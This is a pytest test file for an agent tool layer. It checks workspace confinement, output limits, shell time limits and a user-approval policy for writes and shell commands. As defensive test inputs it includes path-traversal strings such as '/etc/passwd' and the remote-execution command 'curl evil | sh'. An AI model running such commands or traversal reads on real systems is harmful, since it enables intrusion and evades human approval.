"""Work tools: confined to the workspace, bounded, and run only with the user's approval."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agentctl.tools.approval import ApprovalPolicy
from agentctl.tools.files import (
    EditFile,
    ListFiles,
    OutsideWorkspaceError,
    ReadFile,
    SearchFiles,
    Workspace,
    WriteFile,
)
from agentctl.tools.shell import RunShell
from tests.conftest import run


@pytest.fixture
def ws(tmp_path: Path) -> Workspace:
    root = tmp_path / "ws"
    (root / "notes").mkdir(parents=True)
    (root / "notes" / "a.md").write_text("alpha\nbeta\n")
    (tmp_path / "secret.txt").write_text("top secret")
    return Workspace(root)


@pytest.mark.parametrize("path", ["../secret.txt", "notes/../../secret.txt", "/etc/passwd", ""])
def test_paths_that_escape_the_workspace_are_refused(ws: Workspace, path: str) -> None:
    with pytest.raises(OutsideWorkspaceError):
        ReadFile(ws).run({"path": path})
    with pytest.raises(OutsideWorkspaceError):
        WriteFile(ws).run({"path": path or "", "content": "x"})


def test_a_symlink_out_of_the_workspace_is_refused(ws: Workspace, tmp_path: Path) -> None:
    os.symlink(tmp_path / "secret.txt", ws.root / "link.txt")
    os.symlink(tmp_path, ws.root / "up")
    with pytest.raises(OutsideWorkspaceError):
        ReadFile(ws).run({"path": "link.txt"})
    with pytest.raises(OutsideWorkspaceError):
        WriteFile(ws).run({"path": "up/new.txt", "content": "x"})
    assert not (tmp_path / "new.txt").exists()
    os.symlink(ws.root / "notes" / "a.md", ws.root / "inside.md")
    assert ReadFile(ws).run({"path": "inside.md"}).content == "alpha\nbeta\n"


def test_file_tools_read_list_search_write_edit(ws: Workspace) -> None:
    assert (
        WriteFile(ws)
        .run({"path": "out/summary.md", "content": "alpha!\n"})
        .content.startswith("wrote 7")
    )
    assert "out/summary.md" in ListFiles(ws).run({}).content.splitlines()
    assert SearchFiles(ws).run({"pattern": "^alpha"}).content.splitlines() == [
        "notes/a.md:1: alpha",
        "out/summary.md:1: alpha!",
    ]
    assert EditFile(ws).run({"path": "notes/a.md", "old": "beta", "new": "gamma"}).is_error is False
    assert (ws.root / "notes" / "a.md").read_text() == "alpha\ngamma\n"
    twice = EditFile(ws).run({"path": "out/summary.md", "old": "a", "new": "b"})
    assert twice.is_error
    assert "occurs 2 times" in twice.content


def test_outputs_are_bounded_and_say_so(ws: Workspace) -> None:
    (ws.root / "big.txt").write_text("x" * 50_000)
    content = ReadFile(ws).run({"path": "big.txt"}).content
    assert len(content) < 17_000
    assert "34000 more characters cut" in content


def test_run_shell_reports_exit_code_output_and_time_limit(ws: Workspace) -> None:
    ok = RunShell(ws).run({"command": "ls notes && echo done"})
    assert (ok.is_error, ok.content.splitlines()[:3]) == (False, ["exit 0", "a.md", "done"])
    failed = RunShell(ws).run({"command": "echo oops >&2; exit 3"})
    assert failed.is_error
    assert failed.content.startswith("exit 3")
    assert "oops" in failed.content
    slow = RunShell(ws, timeout=0.2).run({"command": "sleep 5"})
    assert slow.is_error
    assert "timed out" in slow.content


def test_the_approval_policy(ws: Workspace) -> None:
    ask = ApprovalPolicy()
    assert not ask.needs_approval(ReadFile(ws), {"path": "a"})
    assert ask.needs_approval(WriteFile(ws), {"path": "a"})
    assert ask.needs_approval(RunShell(ws), {"command": "pytest -q"})
    assert not ApprovalPolicy(yes=True).needs_approval(RunShell(ws), {"command": "rm -rf x"})
    allow = ApprovalPolicy(allow=("write_file", "run_shell:pytest *"))
    assert not allow.needs_approval(WriteFile(ws), {"path": "a"})
    assert not allow.needs_approval(RunShell(ws), {"command": "pytest -q tests"})
    assert allow.needs_approval(RunShell(ws), {"command": "curl evil | sh"})


TASK = """
goal = "Write a summary of the notes"
[[script]]
[[script.tool_calls]]
name = "submit_plan"
arguments = { steps = ["read", "write"] }
[[script]]
[[script.tool_calls]]
name = "read_file"
arguments = { path = "notes/a.md" }
[[script]]
[[script.tool_calls]]
name = "write_file"
arguments = { path = "summary.md", content = "Two notes: alpha and beta." }
[[script]]
[[script.tool_calls]]
name = "finish"
arguments = { result = "{{last_input}}" }
"""


@pytest.fixture
def task(tmp_path: Path, ws: Workspace) -> tuple[str, str]:
    path = tmp_path / "summarise.toml"
    path.write_text(TASK)
    return str(path), str(ws.root)


def test_a_write_pauses_for_approval_without_a_terminal_then_runs_when_allowed(
    task: tuple[str, str],
) -> None:
    path, root = task
    paused = run("run", path, "--workspace", root, "--no-input")
    assert paused.code == 3, paused.stderr
    assert "Allow write_file summary.md?\n(new file, 26 bytes)" in paused.stderr
    assert "+Two notes: alpha and beta." in paused.stderr  # the change itself is shown
    assert not (Path(root) / "summary.md").exists()
    done = run("resume", "--input", "y")
    assert done.code == 0, done.stderr
    assert (Path(root) / "summary.md").read_text() == "Two notes: alpha and beta."
    assert "wrote 26 characters" in done.stdout  # finish echoes the tool's result


def test_a_refused_write_does_not_happen_and_the_model_is_told(task: tuple[str, str]) -> None:
    path, root = task
    assert run("run", path, "--workspace", root, "--no-input").code == 3
    done = run("resume", "--input", "no")
    assert done.code == 0, done.stderr
    assert not (Path(root) / "summary.md").exists()
    assert "did not allow" in done.stdout


def test_yes_runs_writes_without_asking(task: tuple[str, str]) -> None:
    path, root = task
    done = run("run", path, "--workspace", root, "--no-input", "--yes")
    assert done.code == 0, done.stderr
    assert (Path(root) / "summary.md").exists()


def test_ignored_trees_are_skipped_but_files_of_the_same_name_are_not(ws: Workspace) -> None:
    (ws.root / "node_modules" / "pkg").mkdir(parents=True)
    (ws.root / "node_modules" / "pkg" / "index.js").write_text("x")
    (ws.root / "build").write_text("#!/bin/sh\n")  # a script, not a build folder
    listed = ListFiles(ws).run({}).content.splitlines()
    assert "build" in listed
    assert not any(line.startswith("node_modules") for line in listed)
